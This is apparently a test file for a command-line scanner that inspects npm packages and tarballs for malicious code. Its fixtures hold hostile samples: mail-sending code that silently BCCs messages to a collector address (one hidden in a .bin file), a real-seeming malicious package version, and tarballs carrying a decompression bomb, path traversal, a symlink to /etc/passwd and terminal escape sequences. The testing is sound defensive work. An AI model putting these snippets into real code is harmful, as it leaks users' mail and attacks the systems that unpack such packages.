// inspect through the built command: the model case by its structure alone, tarballs as npm packs them, hostile ones.
import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { Ajv2020 } from 'ajv/dist/2020.js';
import addFormatsModule from 'ajv-formats';
import { describe, expect, test } from 'vitest';
import type { Report } from '../../src/model/report.ts';
import { REPORT_FORMATS } from '../../src/reports/contract.ts';
import { cli, temporaryFolder } from '../support/cli.ts';
import { tar } from '../support/image.ts';
import { ROOT } from '../support/scan.ts';

const CASE = 'fixtures/behaviors/model-case';

function inspected(...args: readonly string[]): { readonly code: number | null; readonly report: Report } {
  const ran = cli(['inspect', ...args, '--json']);
  if (ran.stderr !== '') throw new Error(ran.stderr);
  return { code: ran.code, report: JSON.parse(ran.stdout) as Report };
}

describe('the model case, with no bundle', () => {
  test('1.0.16: the hidden recipient at its line', () => {
    const { code, report } = inspected(`${CASE}/1.0.16`, '--iocs', 'none');
    expect(code).toBe(1);
    expect(report.findings.map(({ ruleId, locations: [first] }) => [ruleId, first.path, first.line])).toEqual([['hidden-mail-recipient', `${CASE}/1.0.16/index.js`, 65]]);
  });

  test.each(['1.0.15', 'vendor'])('%s: nothing', (version) => {
    const { code, report } = inspected(`${CASE}/${version}`, '--iocs', 'none');
    expect(report.findings).toEqual([]);
    expect(code).toBe(0);
  });
});

test('with the bundle 1.0.15 is an impostor\'s, and the vendor\'s own is nothing', () => {
  expect(inspected(`${CASE}/1.0.15`).report.findings.map(({ ruleId }) => ruleId)).toEqual(['impostor-package']);
  expect(inspected(`${CASE}/vendor`)).toMatchObject({ code: 0, report: { findings: [], verdict: { status: 'clean' } } });
});

test('a tarball that npm has packed, in every format, and JSON as its schema says', () => {
  const folder = temporaryFolder();
  execFileSync('npm', ['pack', '--silent', '--ignore-scripts', '--pack-destination', folder, join(ROOT, CASE, '1.0.16')], { stdio: 'ignore', env: { PATH: process.env['PATH'], HOME: folder } });
  const [name = ''] = readdirSync(folder).filter((file) => file.endsWith('.tgz'));
  const ran = cli(['inspect', name, '--iocs', 'none', ...REPORT_FORMATS.flatMap((format) => ['-o', `${format}=out.${format}`])], { cwd: folder });
  expect([ran.code, ran.stderr]).toEqual([1, '']);
  expect(ran.stdout).toMatch(/bcc: "phan@giftshop\.club", a constant \(postmark sendEmail\) at\s+index\.js:65/);
  for (const format of REPORT_FORMATS) expect(readFileSync(join(folder, `out.${format}`), 'utf8')).toContain('postmark-mcp');
  const ajv = new Ajv2020({ allErrors: true, strict: true });
  (addFormatsModule as unknown as typeof addFormatsModule.default)(ajv);
  const validate = ajv.compile(JSON.parse(readFileSync(join(ROOT, 'schemas', 'report.schema.json'), 'utf8')) as object);
  validate(JSON.parse(readFileSync(join(folder, 'out.json'), 'utf8')));
  expect(validate.errors).toBeNull();
});

test.each(['./nowhere', 'fixtures/nowhere', 'fixtures/nowhere.tgz'])('%s is no folder and no tarball: no verdict', (path) => {
  const ran = cli(['inspect', path]);
  expect(ran.code).toBe(2);
  expect(ran.stdout).toContain('no such folder or tarball');
});

test('a NUL in the source hides nothing: it is read like any other', () => {
  const folder = temporaryFolder({
    'package.json': '{"name":"a","version":"1.0.0"}',
    'index.js': "// \0\nconst t = require('nodemailer').createTransport({});\nexports.send = (m) => t.sendMail({ to: m.to, text: m.text, bcc: 'x@collect.example.com' });\n",
  });
  const { code, report } = inspected('--iocs', 'none', folder);
  expect(code).toBe(1);
  expect(report.findings.map(({ ruleId, severity, locations: [{ line }] }) => ({ ruleId, severity, line }))).toEqual([{ ruleId: 'hidden-mail-recipient', severity: 'high', line: 3 }]);
});

test('code under a name that is none of a script, which Node runs where it is required', () => {
  const folder = temporaryFolder({
    'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
    'index.js': "module.exports = require('./data.bin');\n",
    'data.bin': "const t = require('nodemailer').createTransport({});\nexports.send = (m) => t.sendMail({ to: m.to, text: m.text, bcc: 'x@collect.example.com' });\n",
  });
  const { code, report } = inspected('--iocs', 'none', folder);
  expect(code).toBe(1);
  expect(report.findings.map(({ ruleId, locations: [{ path, line }] }) => [ruleId, path.endsWith('/data.bin'), line])).toEqual([['hidden-mail-recipient', true, 2]]);
});

test('no path at all is a usage error', () => {
  expect(cli(['inspect']).code).toBe(3);
});

test.each<readonly [string, Uint8Array, readonly number[]]>([
  ['noise', Buffer.from('no tarball'), [2]],
  ['a bomb', gzipSync(tar([{ name: 'package/a', text: Buffer.alloc(100 * 1024 * 1024) }])), [2]],
  ['ten thousand nested parentheses', gzipSync(tar([{ name: 'package/package.json', text: '{"name":"a","version":"1.0.0"}' }, { name: 'package/index.js', text: `eval(${'('.repeat(10_000)}1${')'.repeat(10_000)});` }, { name: 'package/other.js', text: "require('child_process').exec('id')" }])), [0, 2]],
  ['links, climbing paths, control characters', gzipSync(tar([{ name: 'package/package.json', text: '{"name":"a","version":"1.0.0"}' }, { name: 'package/../../../x', text: 'x' }, { name: 'package/l', type: '2', link: '/etc/passwd' }, { name: 'package/\u001b[2Jx.js', text: 'x' }])), [1]],
])('%s: an answer, nothing written, nothing that steers the terminal', (_, bytes, codes) => {
  const folder = temporaryFolder({ 'p.tgz': bytes });
  const ran = cli(['inspect', 'p.tgz'], { cwd: folder });
  expect(ran.stderr).toBe('');
  expect(codes).toContain(ran.code);
  // oxlint-disable-next-line no-control-regex
  expect(ran.stdout).not.toMatch(/\u001b/);
  expect(readdirSync(folder)).toEqual(['p.tgz']);
});
